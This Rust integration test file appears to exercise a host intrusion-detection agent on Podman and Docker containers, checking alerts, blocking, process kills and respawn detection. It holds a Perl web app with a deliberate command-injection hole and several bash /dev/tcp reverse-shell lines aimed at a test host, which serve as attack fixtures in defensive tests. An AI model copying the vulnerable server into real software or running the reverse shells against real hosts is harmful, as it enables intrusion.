//! Containers with a real runtime: Debian's Podman and runc, an image imported from the
//! Debian root the systemd test caches, private Podman storage (`tests/common/podman.rs`).
//!
//! - A web app in a container (a Perl server, PID 1 of its container, under conmon) with a
//!   command injection runs a shell that opens a reverse shell to a test host: the `lineage`
//!   alert, the exec and connect events and the `geo` alert name the container (id, name,
//!   image); the admin's `podman exec` into the same container raises nothing.
//! - A blocked address (IPv4 and IPv6) is unreachable from a container on its own network
//!   namespace (its packets cross the host's `forward` hook) and from one with
//!   `--network host`; with the connect guard on, connect() in the container's cgroup is
//!   refused outright (EPERM).
//! - `enforce.kill` on a lineage alert in a container kills the shell and what it runs, never
//!   the web app (PID 1), conmon or the container (confined: the only web server is the
//!   test's own program, by a name nothing else uses; only lineage alerts are answered).
//! - A container whose init the agent killed (a reverse shell as PID 1, `enforce.kill` on
//!   `reverse_shell` only, to a test host) and that its restart policy
//!   (`--restart=on-failure:1`) brings back is a `respawn` restarted by the runtime (Podman,
//!   through a new `conmon`), and the alert names the container.
//!
//! - A Docker container (Debian's docker.io, a dockerd of the test's own,
//!   `tests/common/docker.rs`) with a reverse shell as its init is named in the alert and the
//!   events as Docker's own `config.v2.json` gives it (id, name, image); so is an admin's
//!   `docker exec`, which raises nothing.
//!
//! - A rootless Podman container (a throwaway user with subordinate ids, its own store under
//!   its home) is named in the alert and the exec events (id, name, image): on these
//!   hybrid-cgroup machines it has no cgroup of its own, and the agent finds it through its
//!   `conmon`.
//! - A rootless Podman container on slirp4netns networking cannot reach a blocked address
//!   (the table alone, and the connect guard: EPERM) (`containers/slirp.rs`).
//! - A container crash-looping through its restart policy (its init segfaults, a new
//!   `conmon` per start) crosses `respawn.max_spawns` (`containers/crash_loop.rs`).
//!
//! Needs root, podman and runc, and docker.io for the Docker test (`scripts/setup.sh`); skips
//! loudly otherwise.

mod common;

use std::{
    io::{Read, Write},
    net::TcpStream,
    time::Duration,
};

use common::{
    Agent,
    netns::{KP6, RU4, TestNet, knock},
    nft::Table,
    podman::{CONTAINER_SIDE, ContainerNet, Podman, available, wait_for},
    require_root, serial,
};
use serde_json::Value;

/// The web app: PID 1 of its container, it listens on 8080 and runs what a request says
/// (the command injection), as a vulnerable CGI would.
const WEB_APP: &str = r#"use IO::Socket::INET;
my $s = IO::Socket::INET->new(Listen => 5, LocalPort => 8080, ReuseAddr => 1) or die "listen: $!";
while (my $c = $s->accept) {
    my $line = <$c>;
    my ($cmd) = $line =~ /cmd=(\S+)/;
    $cmd =~ s/%20/ /g;
    if (fork() == 0) { exec("/bin/sh", "-c", $cmd); }
    print $c "HTTP/1.0 200 OK\r\n\r\nran\n";
    close $c;
}"#;

fn container_of(v: &Value) -> &Value {
    &v["container"]
}

fn names_the_container(v: &Value, id: &str, name: &str) {
    let c = container_of(v);
    assert_eq!(c["id"], id, "{v}");
    assert_eq!(c["runtime"], "podman", "{v}");
    assert_eq!(c["name"], name, "{v}");
    assert_eq!(c["image"], common::podman::IMAGE, "{v}");
}

/// Ask the web app at `addr` to run `cmd`.
fn inject(addr: &str, cmd: &str) {
    let mut s = wait_for(Duration::from_secs(20), || {
        TcpStream::connect_timeout(
            &format!("{addr}:8080").parse().unwrap(),
            Duration::from_secs(1),
        )
        .ok()
    })
    .expect("the web app listens");
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    write!(s, "GET /?cmd={} HTTP/1.0\r\n\r\n", cmd.replace(' ', "%20")).unwrap();
    let mut reply = String::new();
    let _ = s.read_to_string(&mut reply);
    assert!(reply.contains("ran"), "web app reply: {reply:?}");
}

#[test]
fn a_web_app_in_a_container_is_named_in_its_alerts_and_an_admin_exec_is_quiet() {
    let test = "a_web_app_in_a_container_is_named_in_its_alerts_and_an_admin_exec_is_quiet";
    if !require_root(test) || !available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("k");
    let cnet = ContainerNet::new(&net);
    let Some(mut podman) = Podman::new() else {
        return;
    };
    let agent = Agent::start_with(
        "",
        // The container's own address is trusted: the test's requests to the web app are
        // no finding.
        &format!(
            "[containers]\npodman_storage = [\"{}\"]\n[trust]\nips = [\"198.51.100.96/28\"]\n",
            podman.storage().display()
        ),
    );
    let name = format!("snt-web-{}", std::process::id());
    let network = format!("--network={}", cnet.podman_network());
    let id = podman.run(&name, &[&network], &["perl", "-e", WEB_APP]);
    let pid1 = podman.pid1(&name);

    // The admin first: `podman exec` runs a shell in the container, beside the server.
    let out = podman.exec(&name, &["bash", "-c", "id; echo admin-was-here"]);
    assert!(out.status.success(), "{out:?}");

    // The attack: the injected command opens a reverse shell to RU4.
    inject(
        CONTAINER_SIDE,
        &format!("bash -c 'echo pwned; exec 3<>/dev/tcp/{RU4}/4444; sleep 2'"),
    );

    let lineage = agent.wait_for("alert", "lineage in the container", |a| {
        a["anomaly"] == "lineage" && a["container"]["id"] == id.as_str()
    });
    names_the_container(&lineage, &id, &name);
    assert!(
        lineage["detail"].as_str().unwrap_or("").contains("perl"),
        "the server is the web app, not a shim: {lineage}"
    );
    let geo = agent.wait_for("alert", "geo from the container", |a| {
        a["anomaly"] == "geo" && a["target_ip"] == RU4
    });
    names_the_container(&geo, &id, &name);
    let connect = agent.wait_for("connect", "the reverse shell's connect", |c| {
        c["daddr"] == RU4 && c["dport"] == 4444
    });
    names_the_container(&connect, &id, &name);
    let exec = agent.wait_for("exec", "the injected shell", |e| {
        e["argv"].to_string().contains("pwned")
    });
    names_the_container(&exec, &id, &name);
    assert_eq!(exec["ancestors"][0], "perl", "{exec}");
    let decision = agent.wait_for("decision", "a decision on the C2", |d| {
        d["targets"]
            .as_array()
            .is_some_and(|t| t.iter().any(|a| a == RU4))
    });
    names_the_container(&decision, &id, &name);

    // The admin's exec ran in the container (and says so) but raised nothing.
    let admin = agent.wait_for("exec", "the admin's shell", |e| {
        e["filename"].as_str().unwrap_or("").ends_with("/bash")
            && e["argv"].to_string().contains("admin-was-here")
    });
    names_the_container(&admin, &id, &name);
    // It ran under the runtime's monitor, which listens (its attach socket): a shim, never
    // the shell's server.
    assert!(
        admin["ancestors"].to_string().contains("conmon"),
        "the admin's shell is not below conmon: {admin}"
    );
    let alerts = agent.events("alert");
    assert!(
        !alerts
            .iter()
            .any(|a| a["detail"].to_string().contains("admin-was-here")
                || (a["anomaly"] == "lineage" && a["pid"] == admin["pid"])),
        "the admin's exec raised an alert: {alerts:?}"
    );
    // Host processes carry no container: the test's own.
    let own = agent.events("exec");
    assert!(
        own.iter()
            .filter(|e| e["filename"].as_str().unwrap_or("").ends_with("/podman"))
            .all(|e| e["container"].is_null()),
        "a host process was put in a container"
    );
    // status counts the containers seen.
    let status = agent.status();
    assert!(status["containers"].as_u64().unwrap_or(0) >= 1, "{status}");
    assert!(pid1 > 0);
}

#[test]
fn a_blocked_address_is_unreachable_from_containers() {
    let test = "a_blocked_address_is_unreachable_from_containers";
    if !require_root(test) || !available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("f");
    let cnet = ContainerNet::new(&net);
    let Some(mut podman) = Podman::new() else {
        return;
    };
    let table = Table::new("ctr");
    // A listener on RU4 and KP6 (one dual-stack socket), in the test hosts' namespace.
    let mut listener = std::process::Command::new("ip")
        .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c"])
        .arg(
            "import socket\ns=socket.socket(socket.AF_INET6)\n\
             s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
             s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\n\
             s.bind(('::', 4445)); s.listen(50)\nwhile True:\n    c,_=s.accept(); c.close()\n",
        )
        .spawn()
        .unwrap();
    let bridged = format!("snt-br-{}", std::process::id());
    let hostnet = format!("snt-host-{}", std::process::id());
    let network = format!("--network={}", cnet.podman_network());
    podman.run(&bridged, &[&network], &["sleep", "600"]);
    podman.run(&hostnet, &["--network=host"], &["sleep", "600"]);
    let reach = |name: &str, addr: &str| {
        let cmd = format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{addr}/4445' && echo OPEN");
        podman
            .exec(name, &["bash", "-c", &cmd])
            .stdout
            .starts_with(b"OPEN")
    };
    // Reachable from both, in both families, before the block (the routes via the host work).
    for addr in [RU4, KP6] {
        let open = wait_for(Duration::from_secs(10), || {
            reach(&bridged, addr).then_some(())
        });
        assert!(
            open.is_some(),
            "{addr} unreachable from the bridged container"
        );
        assert!(
            reach(&hostnet, addr),
            "{addr} unreachable with --network host"
        );
    }

    // The agent comes now (the checks above would have been findings): connections of the
    // test's own to RU4 and KP6 are auto-blocked after a 1 s countdown. The connect guard is
    // off: the nftables table alone must hold.
    let agent = Agent::start_with(
        "",
        &format!(
            "[switch]\ncountdown = \"1s\"\n[enforce]\ntable = \"{}\"\nconnect_guard = false\n",
            table.0
        ),
    );
    knock(RU4, 4446);
    knock(KP6, 4446);
    for (addr, set) in [(RU4, "block4"), (KP6, "block6")] {
        wait_for(Duration::from_secs(20), || {
            table
                .elements(set)
                .iter()
                .any(|(a, _)| a == addr)
                .then_some(())
        })
        .unwrap_or_else(|| panic!("the block of {addr} never landed; log:\n{}", agent.log()));
    }
    for addr in [RU4, KP6] {
        assert!(
            !reach(&bridged, addr),
            "{addr} still reachable from the bridged container: the forward hook misses it"
        );
        assert!(
            !reach(&hostnet, addr),
            "{addr} still reachable from a --network host container"
        );
    }
    let _ = listener.kill();
    let _ = listener.wait();
}

#[test]
fn a_kill_inside_a_container_kills_the_shell_not_the_runtime() {
    let test = "a_kill_inside_a_container_kills_the_shell_not_the_runtime";
    if !require_root(test) || !available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("q");
    let cnet = ContainerNet::new(&net);
    let Some(mut podman) = Podman::new() else {
        return;
    };
    let table = Table::new("ctk");
    // Confined: the only web server is the container's own program, by a name nothing else
    // uses, and only lineage alerts get the process response.
    let server = "sntctrweb";
    let agent = Agent::start_with(
        "",
        &format!(
            "[lineage]\nweb_servers = [\"{server}\"]\ninterpreters = []\nany_listener = false\n\
             [trust]\nips = [\"198.51.100.96/28\"]\n\
             [enforce]\ntable = \"{}\"\nconnect_guard = false\nkill = true\nkill_grace = \"1s\"\n\
             kill_on = [\"lineage\"]\n",
            table.0
        ),
    );
    let name = format!("snt-kill-{}", std::process::id());
    let network = format!("--network={}", cnet.podman_network());
    let script = format!("cp /usr/bin/perl /tmp/{server} && exec /tmp/{server} -e '{WEB_APP}'");
    let id = podman.run(&name, &[&network], &["sh", "-c", &script]);
    let pid1 = podman.pid1(&name);

    inject(CONTAINER_SIDE, "sh -c 'echo killme; sleep 300'");
    let alert = agent.wait_for("alert", "lineage in the container", |a| {
        a["anomaly"] == "lineage" && a["container"]["id"] == id.as_str()
    });
    let shell = alert["pid"].as_u64().unwrap() as u32;
    // Dead: gone, or a zombie its parent (the web app, which never reaps) has not waited for.
    let dead = |pid: u32| {
        std::fs::read_to_string(format!("/proc/{pid}/stat")).map_or(true, |s| {
            s.rsplit(')')
                .next()
                .unwrap_or("")
                .trim_start()
                .starts_with('Z')
        })
    };
    let gone = wait_for(Duration::from_secs(15), || dead(shell).then_some(()));
    assert!(
        gone.is_some(),
        "the container's shell {shell} was not killed; agent log:\n{}",
        agent.log()
    );
    // The server (the container's PID 1), its monitor and the container live on.
    assert!(!dead(pid1), "the container's PID 1 was killed");
    let conmon = std::fs::read_to_string(format!("/proc/{pid1}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("PPid:").map(|p| p.trim().to_string()))
        .unwrap();
    let comm = std::fs::read_to_string(format!("/proc/{conmon}/comm")).unwrap();
    assert_eq!(comm.trim(), "conmon", "PID 1's parent");
    let running = podman
        .cmd()
        .args(["inspect", "-f", "{{.State.Running}}", &name])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&running.stdout).trim(), "true");
    assert!(agent.status()["kills"].as_u64().unwrap_or(0) >= 1);
}

#[test]
fn the_connect_guard_covers_containers() {
    let test = "the_connect_guard_covers_containers";
    if !require_root(test) || !available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("w");
    let cnet = ContainerNet::new(&net);
    let Some(mut podman) = Podman::new() else {
        return;
    };
    let table = Table::new("ctg");
    let bridged = format!("snt-guard-{}", std::process::id());
    let network = format!("--network={}", cnet.podman_network());
    podman.run(&bridged, &[&network], &["sleep", "600"]);
    // The connect guard on (the default): a blocked address is refused at connect() itself,
    // in the container's own cgroup, before nftables would drop a packet.
    let agent = Agent::start_with(
        "",
        &format!(
            "[switch]\ncountdown = \"1s\"\n[enforce]\ntable = \"{}\"\n",
            table.0
        ),
    );
    knock(RU4, 4448);
    wait_for(Duration::from_secs(20), || {
        table
            .elements("block4")
            .iter()
            .any(|(a, _)| a == RU4)
            .then_some(())
    })
    .unwrap_or_else(|| panic!("the block never landed; log:\n{}", agent.log()));
    let out = podman.exec(
        &bridged,
        &[
            "bash",
            "-c",
            &format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{RU4}/4445'"),
        ],
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("Operation not permitted"),
        "connect() from the container was not refused by the guard: {out:?}"
    );
}

/// A child process killed and reaped on drop, even when the test fails.
pub(crate) struct Reaped(std::process::Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A listener on RU4:`port` in the test hosts' namespace that accepts and holds connections.
fn holding_listener(net: &TestNet, port: u16) -> Reaped {
    let child = std::process::Command::new("ip")
        .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c"])
        .arg(format!(
            "import socket\ns=socket.socket()\n\
             s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
             s.bind(('{RU4}', {port})); s.listen(50)\nheld=[]\n\
             while True:\n    held.append(s.accept()[0])\n"
        ))
        .spawn()
        .unwrap();
    Reaped(child)
}

#[test]
fn a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime() {
    let test = "a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime";
    if !require_root(test) || !available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("r");
    let cnet = ContainerNet::new(&net);
    let Some(mut podman) = Podman::new() else {
        return;
    };
    let _listener = holding_listener(&net, 4447);
    let table = Table::new("ctr");
    // Confined: only reverse shells are killed, and the only one is the container's, to the
    // test's own host RU4 (the machine-wide test lock keeps other tests' away).
    let agent = Agent::start_with(
        "",
        &format!(
            "[containers]\npodman_storage = [\"{}\"]\n[trust]\nips = [\"198.51.100.96/28\"]\n\
             [enforce]\ntable = \"{}\"\nconnect_guard = false\nkill = true\n\
             kill_grace = \"1s\"\nkill_on = [\"reverse_shell\"]\n\
             protect = [\"rustc\", \"cargo\", \"cc1\", \"ld\", \"sentinel\"]\n",
            podman.storage().display(),
            table.0
        ),
    );
    let name = format!("snt-restart-{}", std::process::id());
    let network = format!("--network={}", cnet.podman_network());
    // PID 1 of the container is a reverse shell: sleep with its stdin and stdout on a socket
    // to RU4. Restarted once after a failure (the kill).
    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4447 >&0");
    let id = podman.run(
        &name,
        &[&network, "--restart=on-failure:1"],
        &["bash", "-c", &shell],
    );
    let first = agent.wait_for("alert", "the container's reverse shell", |a| {
        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
    });
    let first_pid = first["pid"].as_u64().unwrap();
    let respawn = agent.wait_for("alert", "the restarted reverse shell as a respawn", |a| {
        a["anomaly"] == "respawn" && a["container"]["id"] == id.as_str()
    });
    names_the_container(&respawn, &id, &name);
    assert_ne!(respawn["pid"].as_u64().unwrap(), first_pid, "{respawn}");
    let detail = respawn["detail"].as_str().unwrap_or("");
    assert!(
        detail.contains("/usr/bin/sleep came back")
            && detail.contains("after the agent killed it")
            && detail.contains(&format!(
                "restarted by the container runtime podman (conmon), the restart policy of \
                 container {name}"
            )),
        "{respawn}"
    );
    // The runtime did restart it: its own count says so.
    let restarts = podman
        .cmd()
        .args(["inspect", "-f", "{{.RestartCount}}", &name])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&restarts.stdout).trim(), "1");
    assert!(agent.status()["kills"].as_u64().unwrap_or(0) >= 1);
}

#[test]
fn a_docker_container_is_named_as_dockers_own_config_gives_it() {
    let test = "a_docker_container_is_named_as_dockers_own_config_gives_it";
    if !require_root(test) || !common::docker::available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("d");
    let _listener = holding_listener(&net, 4449);
    let Some(mut docker) = common::docker::Docker::start() else {
        return;
    };
    let agent = Agent::start_with(
        "",
        &format!(
            "[containers]\ndocker_root = \"{}\"\n",
            docker.data_root().display()
        ),
    );
    let name = format!("snt-docker-{}", std::process::id());
    // The host's network (dockerd here has no bridge): the init is a reverse shell to RU4.
    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4449 >&0");
    let id = docker.run(&name, &["--network=host"], &["bash", "-c", &shell]);
    let alert = agent.wait_for("alert", "the Docker container's reverse shell", |a| {
        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
    });
    // As Docker's own state says it.
    let inspect = docker
        .cmd()
        .args(["inspect", "-f", "{{.Name}} {{.Config.Image}}", &name])
        .output()
        .unwrap();
    let inspect = String::from_utf8_lossy(&inspect.stdout).trim().to_string();
    assert_eq!(
        inspect,
        format!("/{name} {}", common::docker::IMAGE),
        "docker inspect"
    );
    let names_it = |v: &Value| {
        let c = container_of(v);
        assert_eq!(c["id"], id.as_str(), "{v}");
        assert_eq!(c["runtime"], "docker", "{v}");
        assert_eq!(c["name"], name.as_str(), "{v}");
        assert_eq!(c["image"], common::docker::IMAGE, "{v}");
    };
    names_it(&alert);
    let exec = agent.wait_for("exec", "the container's init", |e| {
        e["filename"].as_str().unwrap_or("").ends_with("/bash")
            && e["argv"]
                .to_string()
                .contains(&format!("/dev/tcp/{RU4}/4449"))
    });
    names_it(&exec);
    // The admin's `docker exec` is in the container too, below the shim, and raises nothing.
    let out = docker.exec(&name, &["bash", "-c", "id; echo admin-was-here"]);
    assert!(out.status.success(), "{out:?}");
    let admin = agent.wait_for("exec", "the admin's shell", |e| {
        e["filename"].as_str().unwrap_or("").ends_with("/bash")
            && e["argv"].to_string().contains("admin-was-here")
    });
    names_it(&admin);
    std::thread::sleep(Duration::from_secs(2));
    let alerts = agent.events("alert");
    assert!(
        !alerts
            .iter()
            .any(|a| a["detail"].to_string().contains("admin-was-here")
                || a["pid"] == admin["pid"]),
        "the admin's exec raised an alert: {alerts:?}"
    );
}

#[test]
fn a_rootless_podman_container_is_named() {
    let test = "a_rootless_podman_container_is_named";
    if !require_root(test) || !available(test) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("u");
    let _listener = holding_listener(&net, 4450);
    if common::container::container_root().is_none() {
        return;
    }
    let user = common::podman::RootlessUser::create();
    user.import_image();
    let agent = Agent::start_with("", "");
    let name = format!("snt-rootless-{}", std::process::id());
    // The host's network (no slirp4netns needed): the init is a reverse shell to RU4.
    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4450 >&0");
    let id = user.run(&name, &["--network=host"], &["bash", "-c", &shell]);
    let alert = agent.wait_for("alert", "the rootless container's reverse shell", |a| {
        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
    });
    names_the_container(&alert, &id, &name);
    let exec = agent.wait_for("exec", "the container's init", |e| {
        e["filename"].as_str().unwrap_or("").ends_with("/bash")
            && e["argv"]
                .to_string()
                .contains(&format!("/dev/tcp/{RU4}/4450"))
    });
    names_the_container(&exec, &id, &name);
    // The store the name came from is the user's own (whichever driver Podman chose).
    assert!(
        ["overlay-containers", "vfs-containers"].iter().any(|d| user
            .storage()
            .join(d)
            .join(&id)
            .is_dir()),
        "{id} is not in the user's store"
    );
    // Podman's own processes (the user's `podman`, conmon's `runc` and the cleanup it runs
    // when the container exits) are the host's.
    user.sh(&format!("podman rm -f -t 0 {name}"));
    let cleanup = agent.wait_for("exec", "conmon's podman container cleanup", |e| {
        e["filename"].as_str().unwrap_or("").ends_with("/podman")
            && e["argv"].to_string().contains("cleanup")
    });
    let host = agent.events("exec");
    let runtime = host.iter().filter(|e| {
        let f = e["filename"].as_str().unwrap_or("");
        f.ends_with("/podman") || f.ends_with("/runc") || f.ends_with("/conmon")
    });
    for e in runtime.chain([&cleanup]) {
        assert!(
            e["container"].is_null(),
            "a runtime process put in the container: {e}"
        );
    }
}

#[path = "containers/slirp.rs"]
mod slirp;

#[path = "containers/crash_loop.rs"]
mod crash_loop;
